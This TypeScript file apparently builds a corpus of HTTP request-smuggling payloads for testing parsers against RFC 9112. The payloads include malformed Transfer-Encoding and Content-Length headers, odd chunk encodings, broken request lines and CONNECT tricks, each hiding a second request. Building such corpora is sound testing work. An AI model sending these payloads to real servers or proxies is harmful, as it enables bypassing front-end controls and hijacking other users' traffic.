/**
 * Requests that two readers of RFC 9112 may take for different things, made from its grammar: for each rule a way to break it, with another request hidden where a careless reader would
 * find one. Names say what is broken.
 */
export interface Attack {
  readonly name: string
  readonly bytes: string
}

const HIDDEN = 'GET /smuggled HTTP/1.1\r\nHost: a\r\nX-Hidden: 1\r\n\r\n'

const post = (lines: string, body: string, first = 'POST /attack HTTP/1.1'): string => `${first}\r\nHost: a\r\n${lines}\r\n\r\n${body}`

/** §6.1, §6.3: what says that a body is chunked, nearly. */
const CODINGS = [
  'Transfer-Encoding: chunked', 'Transfer-Encoding : chunked', 'Transfer-Encoding: xchunked', 'Transfer-Encoding:\tchunked', ' Transfer-Encoding: chunked', 'X: 1\nTransfer-Encoding: chunked',
  'X: 1\rTransfer-Encoding: chunked', 'Transfer-Encoding\r\n: chunked', 'Transfer-Encoding:\r\n chunked', 'Transfer-Encoding: chunked, identity', 'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: identity', 'Transfer-Encoding: "chunked"', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow', 'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked', 'Transfer-Encoding: \x0bchunked', 'Transfer-Encoding: chunKED', 'Transfer_Encoding: chunked', 'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding: chunked\xa0', 'Transfer-Encoding: chunked;q=1', 'Transfer-Encoding: ,chunked', 'Transfer-Encoding: chunked,', 'Transfer-Encoding: chunked chunked', 'Transfer-Encoding:',
  'Transfer-Encoding: gzip, chunked', 'Transfer-Encoding: chunked\t', 'Transfer-Encoding: \tchunked', '\x00Transfer-Encoding: chunked', 'Foo: bar\r\n\tTransfer-Encoding: chunked', 'TRANSFER-ENCODING: chunked',
  'Transfer-Encodin\xc5\xa2: chunked', 'Transfer-Encoding: ch\x75nked\r', 'Connection: transfer-encoding\r\nTransfer-Encoding: chunked',
]

/** §6.2: what says how long a body is, nearly. `#` stands for the right number. */
const LENGTHS = [
  'Content-Length: #', 'Content-Length: +#', 'Content-Length: -#', 'Content-Length: #,#', 'Content-Length: #, #', 'Content-Length: #\r\nContent-Length: #', 'Content-Length: 0\r\nContent-Length: #',
  'Content-Length: #\r\nContent-Length: 0', 'Content-Length : #', ' Content-Length: #', 'Content-Length: 0x#', 'Content-Length: #e0', 'Content-Length: #.0', 'Content-Length: 00#', 'Content-Length: #;', 'Content-Length:',
  'Content-Length: \x0b#', 'Content-Length: # 1', 'Content-Length: 18446744073709551616', 'Content-Length: 99999999999999999999', 'Content-Length: "#"', 'Content_Length: #', 'Content-Length: #\x00', 'Content-Length\t: #',
  'X: 1\nContent-Length: #', 'Connection: content-length\r\nContent-Length: #', 'Content-Length: #\nX: 1', 'Content-Length:\r\n #', 'Content-Length: a', 'Content-Length: \xb3',
]

/** §7.1: chunks that end elsewhere for another reader. */
const CHUNKS: readonly (readonly [string, string])[] = [
  ['a size in bare LF', '5\nhello\n0\n\n'], ['data that ends in bare LF', '5\r\nhello\n0\r\n\r\n'], ['a signed size', '+5\r\nhello\r\n0\r\n\r\n'], ['a size with a prefix', '0x5\r\nhello\r\n0\r\n\r\n'],
  ['a negative size', '-5\r\nhello\r\n0\r\n\r\n'], ['a size with a space before', ' 5\r\nhello\r\n0\r\n\r\n'], ['a size with a space behind', '5 \r\nhello\r\n0\r\n\r\n'], ['a huge size', 'ffffffffffffffffff\r\nhello\r\n0\r\n\r\n'],
  ['a size that wraps to 5', '100000005\r\nhello\r\n0\r\n\r\n'], ['leading zeros', '0000000000000000000005\r\nhello\r\n0\r\n\r\n'], ['an extension', '5;a=b\r\nhello\r\n0\r\n\r\n'], ['an extension with bare LF', '5;a\nb\r\nhello\r\n0\r\n\r\n'],
  ['an extension with bare CR', '5;a\rb\r\nhello\r\n0\r\n\r\n'], ['an extension that hides a request', `5;\n${HIDDEN}\r\nhello\r\n0\r\n\r\n`], ['a quoted extension', '5;a="\r\n0\r\n\r\n"\r\nhello\r\n0\r\n\r\n'], ['no size', '\r\nhello\r\n0\r\n\r\n'],
  ['no CRLF behind data', '5\r\nhello0\r\n\r\n'], ['data that is too long', '5\r\nhelloworld\r\n0\r\n\r\n'], ['data that is too short', '5\r\nhel\r\n0\r\n\r\n'], ['a last chunk with bare LF', '5\r\nhello\r\n0\n\n'],
  ['a last chunk of zeros', '5\r\nhello\r\n00000\r\n\r\n'], ['a trailer of length', '5\r\nhello\r\n0\r\nContent-Length: 40\r\n\r\n'], ['a trailer of coding', '5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n'],
  ['a trailer of host', '5\r\nhello\r\n0\r\nHost: evil\r\n\r\n'], ['a folded trailer', '5\r\nhello\r\n0\r\nX: 1\r\n 2\r\n\r\n'], ['a trailer with bare LF', '5\r\nhello\r\n0\r\nX: 1\n\r\n'], ['a trailer without a colon', '5\r\nhello\r\n0\r\nGET / HTTP/1.1\r\n\r\n'],
  ['a letter size', 'g\r\nhello\r\n0\r\n\r\n'], ['a NUL in the size', '5\x00\r\nhello\r\n0\r\n\r\n'], ['a bare CR behind data', '5\r\nhello\r0\r\n\r\n'], ['no end', '5\r\nhello\r\n'],
]

/** §2, §3, §5: heads that begin, split or end elsewhere. */
const HEADS: readonly (readonly [string, string])[] = [
  ['two spaces', 'GET  /attack HTTP/1.1\r\nHost: a\r\n\r\n'], ['a tab', 'GET\t/attack\tHTTP/1.1\r\nHost: a\r\n\r\n'], ['bare LF lines', 'GET /attack HTTP/1.1\nHost: a\n\n'], ['a mixed end', `GET /attack HTTP/1.1\r\nHost: a\r\n\n${HIDDEN}`],
  ['HTTP/0.9', 'GET /smuggled\r\n'], ['HTTP/1.0 with chunks', `POST /attack HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`], ['a lower-case version', 'GET /attack http/1.1\r\nHost: a\r\n\r\n'],
  ['a version twice', 'GET /attack HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\n'], ['HTTP/2.0', 'GET /attack HTTP/2.0\r\nHost: a\r\n\r\n'], ['HTTP/1.10', 'GET /attack HTTP/1.10\r\nHost: a\r\n\r\n'], ['empty lines before', `\r\n\r\n\r\nGET /attack HTTP/1.1\r\nHost: a\r\n\r\n`],
  ['a NUL in the target', 'GET /att\x00ack HTTP/1.1\r\nHost: a\r\n\r\n'], ['a space in the target', 'GET /att ack HTTP/1.1\r\nHost: a\r\n\r\n'], ['a CR in the target', `GET /attack\rHTTP/1.1\r\nHost: a\r\n\r\n`], ['no host', `GET /attack HTTP/1.1\r\n\r\n`],
  ['two hosts', 'GET /attack HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n'], ['a host with a path', 'GET /attack HTTP/1.1\r\nHost: a/smuggled\r\n\r\n'], ['a host with a line', `GET /attack HTTP/1.1\r\nHost: a\r\n\tb\r\n\r\n`], ['a host of hop', 'GET /attack HTTP/1.1\r\nHost: a\r\nConnection: host\r\n\r\n'],
  ['another host in the target', 'GET http://b/attack HTTP/1.1\r\nHost: a\r\n\r\n'], ['userinfo in the target', 'GET http://a@b/attack HTTP/1.1\r\nHost: a\r\n\r\n'], ['a line without a colon', 'GET /attack HTTP/1.1\r\nHost: a\r\nsmuggled\r\n\r\n'],
  ['a name with a space', 'GET /attack HTTP/1.1\r\nHost: a\r\nX Y: 1\r\n\r\n'], ['a name with a CR', 'GET /attack HTTP/1.1\r\nHost: a\r\nX\rY: 1\r\n\r\n'], ['a value with a CR', `GET /attack HTTP/1.1\r\nHost: a\r\nX: 1\rGET /smuggled HTTP/1.1\r\n\r\n`],
  ['a value with a NUL', 'GET /attack HTTP/1.1\r\nHost: a\r\nX: 1\x002\r\n\r\n'], ['a folded first line', ' GET /attack HTTP/1.1\r\nHost: a\r\n\r\n'], ['a folded value that hides a request', `GET /attack HTTP/1.1\r\nHost: a\r\nX: 1\r\n ${HIDDEN}`],
  ['a body of GET', `GET /attack HTTP/1.1\r\nHost: a\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`], ['a body of HEAD', `HEAD /attack HTTP/1.1\r\nHost: a\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`],
  ['a body of GET without a length', `GET /attack HTTP/1.1\r\nHost: a\r\n\r\nhello${HIDDEN}`], ['an upgrade to h2c', 'GET /attack HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n'],
  ['an upgrade that the server does not take', `GET /attack HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 999\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n${HIDDEN}`],
  ['an upgrade with a body', `POST /attack HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 5\r\n\r\nhello${HIDDEN}`], ['Expect with a hidden request', `POST /attack HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`],
  ['an expectation of one\'s own', `POST /attack HTTP/1.1\r\nHost: a\r\nExpect: something\r\nContent-Length: 5\r\n\r\nhello`], ['CONNECT', `CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n${HIDDEN}`], ['a preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ['bytes of TLS', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'], ['nothing but noise', '\x00\xff\x00\xff\r\n\r\n'], ['an asterisk', 'GET * HTTP/1.1\r\nHost: a\r\n\r\n'], ['a target without a slash', 'GET attack HTTP/1.1\r\nHost: a\r\n\r\n'],
]

const NEVER = 'GET /never HTTP/1.1\r\nHost: a\r\nX-Hidden: 1\r\n\r\n'

/** RFC 9110 §9.3.6, RFC 9112 §3.2.3: what asks for a tunnel, and more. What is hidden may reach the far end of a tunnel that stands, and `/never` nobody. */
const CONNECTS: readonly (readonly [string, string])[] = [
  ['what follows at once', `CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n${HIDDEN}`], ['another host in the field', `CONNECT a:80 HTTP/1.1\r\nHost: b:80\r\n\r\n${HIDDEN}`], ['a length', `CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\nContent-Length: 5\r\n\r\nhello${NEVER}`],
  ['the length of what follows', `CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\nContent-Length: ${NEVER.length}\r\n\r\n${NEVER}`], ['chunks', `CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${NEVER}`],
  ['a chunk of another request', `CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\nTransfer-Encoding: chunked\r\n\r\n${NEVER.length.toString(16)}\r\n${NEVER}\r\n0\r\n\r\n`], ['a path', `CONNECT /never HTTP/1.1\r\nHost: a\r\n\r\n${NEVER}`],
  ['an absolute target', `CONNECT http://a/never HTTP/1.1\r\nHost: a\r\n\r\n${NEVER}`], ['an asterisk', `CONNECT * HTTP/1.1\r\nHost: a\r\n\r\n${NEVER}`], ['userinfo', `CONNECT u:p@a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n${NEVER}`],
  ['in lower case', `connect a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n${NEVER}`], ['HTTP/1.0', `CONNECT a:80 HTTP/1.0\r\nHost: a:80\r\n\r\n`], ['no host', `CONNECT a:80 HTTP/1.1\r\n\r\n${NEVER}`], ['a line in the target', `CONNECT a:80\r\nX: 1 HTTP/1.1\r\nHost: a:80\r\n\r\n${NEVER}`],
  ['an upgrade beside it', `CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n${HIDDEN}`], ['an expectation', `CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\nExpect: 100-continue\r\n\r\n${HIDDEN}`],
  ['nobody', `CONNECT nobody:80 HTTP/1.1\r\nHost: nobody:80\r\n\r\n${NEVER}`], ['a dead end', `CONNECT dead:80 HTTP/1.1\r\nHost: dead:80\r\n\r\n${NEVER}`], ['a request before it', `GET /attack HTTP/1.1\r\nHost: a\r\n\r\nCONNECT nobody:80 HTTP/1.1\r\nHost: nobody:80\r\n\r\n${NEVER}`],
  ['a method that is overridden', `GET /attack HTTP/1.1\r\nHost: a\r\nX-HTTP-Method-Override: CONNECT\r\n\r\n`],
]

export const connectCorpus = (): Attack[] => CONNECTS.map(([name, bytes]) => ({ name: `CONNECT: ${name}`, bytes }))

export function corpus(): Attack[] {
  const attacks: Attack[] = []
  for (const coding of CODINGS) {
    const ended = `0\r\n\r\n${HIDDEN}`
    attacks.push({ name: `length before coding: ${JSON.stringify(coding)}`, bytes: post(`Content-Length: ${ended.length}\r\n${coding}`, ended) })
    attacks.push({ name: `coding before a short length: ${JSON.stringify(coding)}`, bytes: post(`${coding}\r\nContent-Length: 4`, `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`) })
    attacks.push({ name: `coding alone: ${JSON.stringify(coding)}`, bytes: post(coding, `5\r\nhello\r\n0\r\n\r\n`) })
  }
  for (const length of LENGTHS) attacks.push({ name: `a length: ${JSON.stringify(length)}`, bytes: post(length.replaceAll('#', String(HIDDEN.length)), HIDDEN) })
  for (const [name, body] of CHUNKS) attacks.push({ name: `chunks: ${name}`, bytes: post('Transfer-Encoding: chunked', body + HIDDEN) })
  for (const [name, bytes] of HEADS) attacks.push({ name: `a head: ${name}`, bytes })
  return attacks
}
